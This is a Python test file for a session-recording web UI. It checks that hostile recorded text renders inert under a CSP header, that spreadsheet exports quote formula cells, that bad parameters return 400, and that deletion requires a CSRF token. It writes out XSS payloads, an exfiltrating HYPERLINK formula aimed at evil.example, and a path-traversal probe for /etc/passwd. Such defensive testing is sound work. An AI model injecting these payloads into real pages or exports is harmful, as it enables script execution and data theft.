"""
The web UI and the session API against hostile recorded text: model output,
tool results, system prompts (shown in the diff view), model, client and
project names (chart labels, analytics tables), and hostile parameters.
Every page must show all of it as inert text, with the CSP header.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import pytest_twisted
import treq

from lunaroute.api.export import spreadsheet_cell
from lunaroute.testing.browser import CHROMIUM, DevTools
from lunaroute.testing.helpers import free_port, in_thread

# Payloads that would do something if they reached the page as markup.
SCRIPT = "<script>window.__pwned = 1</script>"
CLOSE = "</script><script>window.__pwned = 2</script>"
IMG = '"><img src=x onerror="window.__pwned = 3">'
SVG = "<svg/onload=window.__pwned=4>"
LINK = "[click me](javascript:window.__pwned=5) <a href=\"javascript:window.__pwned=6\">x</a>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
HOSTILE = f"{SCRIPT} {CLOSE} {IMG} {SVG} {LINK}"
MARKUP = re.compile(
    r"<script>window|<img src=x|<svg/onload|href=\"javascript:|href='javascript:",
    re.I,
)


def hostile_turn(system: str, model: str, first: bool) -> dict[str, Any]:
    messages: list[dict[str, Any]] = [{"role": "user", "content": f"{FORMULA} {HOSTILE}"}]
    if not first:
        messages += [
            {
                "role": "assistant",
                "content": [{"type": "tool_use", "id": "toolu_1", "name": f"Bash{IMG}", "input": {"command": HOSTILE}}],
            },
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_1", "content": HOSTILE}]},
        ]
    return {
        "model": model,
        "max_tokens": 64,
        "system": system,
        "tools": [{"name": f"Bash{IMG}", "description": HOSTILE, "input_schema": {"type": "object"}}],
        "messages": messages,
    }


async def get(url: str) -> tuple[int, dict[str, list[str]], str]:
    response = await treq.get(url)
    body: str = await response.text()
    headers = {k.decode().lower(): [v.decode() for v in vs] for k, vs in response.headers.getAllRawHeaders()}
    return response.code, headers, body


@pytest_twisted.ensureDeferred
async def test_hostile_recorded_text_is_inert_on_every_page(fake, start_gateway, tmp_path: Path) -> None:
    """Every UI page and API export shows hostile text escaped, with the CSP header on every HTML page."""
    fake.default_text = f"Answer {HOSTILE} "
    ui_port = free_port()
    gw = await start_gateway(
        fake,
        session_recording={"enabled": True, "sessions_dir": str(tmp_path / "sessions")},
        ui={"enabled": True, "port": ui_port},
    )
    session_id = "hostile-ui-1"
    for index, system in enumerate((f"Working directory: /tmp/proj{IMG}\n{HOSTILE}", f"changed {CLOSE} {SVG}")):
        response = await treq.post(
            gw.url + "/v1/messages",
            data=json.dumps(hostile_turn(system, f"claude-sonnet-4-5{IMG}", first=index == 0)).encode(),
            headers={
                "content-type": ["application/json"],
                "x-api-key": ["sk-ant-client-key-123456789"],
                "anthropic-version": ["2023-06-01"],
                "x-session-id": [session_id],
                "user-agent": [f"claude-cli/2.0.0 {IMG}"],
            },
        )
        assert response.code == 200, await response.text()
        await response.content()
    await gw.service.recorder.flush()
    ui = f"http://127.0.0.1:{ui_port}"
    code, _, listed = await get(gw.url + "/api/sessions")
    session_id = json.loads(listed)["sessions"][0]["session_id"]
    code, _, timeline = await get(gw.url + f"/api/sessions/{session_id}/timeline")
    request_ids = list(dict.fromkeys(e["request_id"] for e in json.loads(timeline)["events"] if e.get("request_id")))
    assert len(request_ids) == 2
    pages = [
        "/", "/sessions", "/analytics", "/settings", f"/sessions/{session_id}",
        f"/sessions/{session_id}/turns?start=0&count=10", f"/sessions/{session_id}/diff/{request_ids[1]}",
        f"/sessions/{session_id}/diff/{request_ids[0]}", "/sessions?text_search=window",
        "/analytics?days=30",
    ]
    for path in pages:
        code, headers, body = await get(ui + path)
        assert code == 200, (path, body[:300])
        csp = " ".join(headers.get("content-security-policy", []))
        assert "script-src 'self'" in csp and "unsafe-inline" not in csp.split("style-src")[0], (path, csp)
        assert not MARKUP.search(body), (path, MARKUP.search(body))
    code, _, exported = await get(gw.url + f"/sessions/{session_id}/export?format=html")
    assert code == 200 and not MARKUP.search(exported)
    for csv_url in (ui + "/sessions.csv", gw.url + f"/sessions/{session_id}/export?format=csv"):
        code, _, text = await get(csv_url)
        assert code == 200
        for line in text.splitlines():
            for cell in line.split(","):
                assert not cell.lstrip('" ').startswith(("=", "+", "@")), (csv_url, cell)


def test_spreadsheet_cells_that_could_run_are_quoted() -> None:
    """Formula starts hidden behind spaces, a line feed or full-width signs are quoted too."""
    for value in (FORMULA, " =1+1", "\n=1+1", "\t@SUM(A1)", "\uff1dHYPERLINK(1)", "-2+3", "+1"):
        assert spreadsheet_cell(value) == "'" + value
    for value in ("hello", "a=b", "", " ", 42, None):
        assert spreadsheet_cell(value) == value


async def one_session(fake: Any, start_gateway: Any, tmp_path: Path, **ui: Any) -> tuple[Any, str, str]:
    ui_port = free_port()
    gw = await start_gateway(
        fake,
        session_recording={"enabled": True, "sessions_dir": str(tmp_path / "sessions")},
        ui={"enabled": True, "port": ui_port, **ui},
    )
    response = await treq.post(
        gw.url + "/v1/messages",
        data=json.dumps(hostile_turn("sys", "claude-sonnet-4-5", first=True)).encode(),
        headers={"content-type": ["application/json"], "x-api-key": ["sk-ant-client-key-123456789"],
                 "anthropic-version": ["2023-06-01"], "x-session-id": ["plain-session-1"]},
    )
    await response.content()
    await gw.service.recorder.flush()
    _, _, listed = await get(gw.url + "/api/sessions")
    return gw, f"http://127.0.0.1:{ui_port}", json.loads(listed)["sessions"][0]["session_id"]


@pytest_twisted.ensureDeferred
async def test_bad_parameters_are_400_not_500(fake, start_gateway, tmp_path: Path) -> None:
    """Lazy-loading and jump parameters that are negative, huge or not numbers get a 400 page."""
    gw, ui, sid = await one_session(fake, start_gateway, tmp_path)
    for path in (
        f"/sessions/{sid}/turns?start=-1", f"/sessions/{sid}/turns?start=abc", f"/sessions/{sid}/turns?count=0",
        f"/sessions/{sid}/turns?count=100000", f"/sessions/{sid}/turns?start=99999999999999999999999",
        f"/sessions/{sid}/turns?start=1e3", f"/sessions/{sid}/turns?start=%00", f"/sessions/{sid}?turn=0",
        f"/sessions/{sid}?turn=-5", f"/sessions/{sid}?turn=abc", f"/sessions/{sid}?turn=999999999999999999999",
        f"/sessions/{sid}?turn=1&turn=2", "/sessions?limit=-1", "/sessions?offset=abc", "/sessions?sort=evil",
        "/analytics?days=-1", "/analytics?days=abc", "/?days=99999999999999999999",
        "/sessions?from=2024-13-45", "/sessions?min_cost=nan", "/sessions?min_cost=inf",
    ):
        code, headers, body = await get(ui + path)
        assert code == 400, (path, code, body[:200])
        assert "content-security-policy" in headers
    code, _, _ = await get(ui + f"/sessions/{sid}/diff/no-such-request")
    assert code == 404
    code, _, _ = await get(ui + "/sessions/..%2F..%2Fetc%2Fpasswd")
    assert code in (400, 404)


@pytest_twisted.ensureDeferred
async def test_delete_needs_a_post_with_this_uis_token(fake, start_gateway, tmp_path: Path) -> None:
    """GET, a missing or forged token, another session's token, a cross-origin POST: nothing is deleted."""
    gw, ui, sid = await one_session(fake, start_gateway, tmp_path, delete_enabled=True)
    code, _, page = await get(ui + f"/sessions/{sid}")
    token = re.search(r'name="csrf" value="([0-9a-f]+)"', page)
    assert token, "the session page carries the delete form's token"
    url = ui + f"/sessions/{sid}/delete"
    assert (await treq.get(url + f"?csrf={token.group(1)}")).code in (404, 405)
    for data in ({}, {"csrf": "0" * 64}, {"csrf": token.group(1)[:-1] + ("1" if token.group(1).endswith("0") else "0")}, {"csrf": ""}):
        response = await treq.post(url, data=data)
        await response.content()
        assert response.code == 403, data
    evil = await treq.post(url, data={"csrf": token.group(1)}, headers={"origin": ["http://evil.example"]})
    await evil.content()
    assert evil.code == 403
    assert (await get(gw.url + f"/api/sessions/{sid}"))[0] == 200  # still there
    ok = await treq.post(url, data={"csrf": token.group(1)})
    text = await ok.text()
    assert ok.code == 200, text[-600:]
    assert (await get(gw.url + f"/api/sessions/{sid}"))[0] == 404


def _walk_in_chromium(ui: str, session_id: str, request_ids: list[str], profile: Path) -> dict[str, Any]:
    """Load the hostile pages in one Chromium, then delete the session with the page's own form."""
    browser = DevTools(profile)
    seen: dict[str, Any] = {}
    try:
        browser.open(ui + f"/sessions/{session_id}")
        for path in (
            f"/sessions/{session_id}", f"/sessions/{session_id}/diff/{request_ids[1]}", "/analytics",
            "/sessions?text_search=window", "/", f"/sessions/{session_id}/turns?start=0&count=5",
        ):
            browser.navigate(ui + path)
            browser.until("document.readyState === 'complete'")
            seen[path] = browser.eval("[typeof window.__pwned, document.querySelectorAll('main img, main svg, main script').length]")
        browser.navigate(ui + f"/sessions/{session_id}")
        browser.eval("window.confirm = () => true; true")
        browser.click_and_wait("document.querySelector('form.delete button').click()")
        seen["after delete"] = browser.eval("document.querySelector('main h1').textContent")
    finally:
        browser.close()
    return seen


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed")
@pytest_twisted.ensureDeferred
async def test_in_chromium_no_payload_runs_and_the_delete_button_works(fake, start_gateway, tmp_path: Path) -> None:
    """A real browser on the real UI site: no injected script or handler runs on any page; Delete deletes."""
    fake.default_text = f"Answer {HOSTILE} "
    gw, ui, sid = await one_session(fake, start_gateway, tmp_path, delete_enabled=True)
    response = await treq.post(
        gw.url + "/v1/messages",
        data=json.dumps(hostile_turn(f"changed {CLOSE} {SVG}", "claude-sonnet-4-5", first=False)).encode(),
        headers={"content-type": ["application/json"], "x-api-key": ["sk-ant-client-key-123456789"],
                 "anthropic-version": ["2023-06-01"], "x-session-id": ["plain-session-1"]},
    )
    await response.content()
    await gw.service.recorder.flush()
    _, _, timeline = await get(gw.url + f"/api/sessions/{sid}/timeline")
    request_ids = list(dict.fromkeys(e["request_id"] for e in json.loads(timeline)["events"] if e.get("request_id")))
    assert len(request_ids) == 2
    seen = await in_thread(_walk_in_chromium, ui, sid, request_ids, tmp_path / "profile")
    for path, state in seen.items():
        if path != "after delete":
            assert state == ["undefined", 0], (path, state)
    assert seen["after delete"] == "Deleted"
    assert (await get(gw.url + f"/api/sessions/{sid}"))[0] == 404



@pytest.mark.parametrize("database", ["missing", "being created"])
@pytest_twisted.ensureDeferred
async def test_every_page_works_before_anything_is_recorded(tmp_path: Path, database: str) -> None:
    """No database yet (or one the gateway is creating): the pages show empty, not a 503; a session is a 404."""
    import sqlite3

    from treq.testing import StubTreq
    from twisted.internet.task import Clock

    from lunaroute.api.app import LiveFeed
    from lunaroute.config import settings_from_mapping
    from lunaroute.sessions.recorder import InlineThreadPool
    from lunaroute.sessions.store import SessionStore
    from lunaroute.stats.pricing import PricingTable
    from lunaroute.ui import ui_resource

    db = tmp_path / "sessions.db"
    if database == "being created":
        sqlite3.connect(db).close()  # exists, schema version 0
    clock = Clock()
    clock.advance(1_768_003_200.0)
    store = SessionStore(str(db), reactor=clock, threadpool=InlineThreadPool())
    stub = StubTreq(ui_resource(store, settings_from_mapping({}, env={}), clock, PricingTable.load(None, {}), LiveFeed()))
    base = "http://127.0.0.1:8082"
    for path in ("/", "/sessions", "/analytics", "/sessions?text_search=anything", "/analytics?days=1"):
        response = await stub.get(base + path)
        body = (await response.content()).decode()
        assert response.code == 200, (path, response.code, body[-400:])
        assert "No session recorded yet" in body and response.headers.hasHeader(b"content-security-policy")
    response = await stub.get(base + "/sessions.csv")
    from lunaroute.ui.pages import LIST_CSV_COLUMNS

    assert response.code == 200 and (await response.content()).decode().splitlines() == [",".join(LIST_CSV_COLUMNS)]
    response = await stub.get(base + "/sessions.json")
    assert response.code == 200 and json.loads(await response.content())["sessions"] == []
    response = await stub.get(base + "/sessions/nothing-here")
    await response.content()
    assert response.code == 404
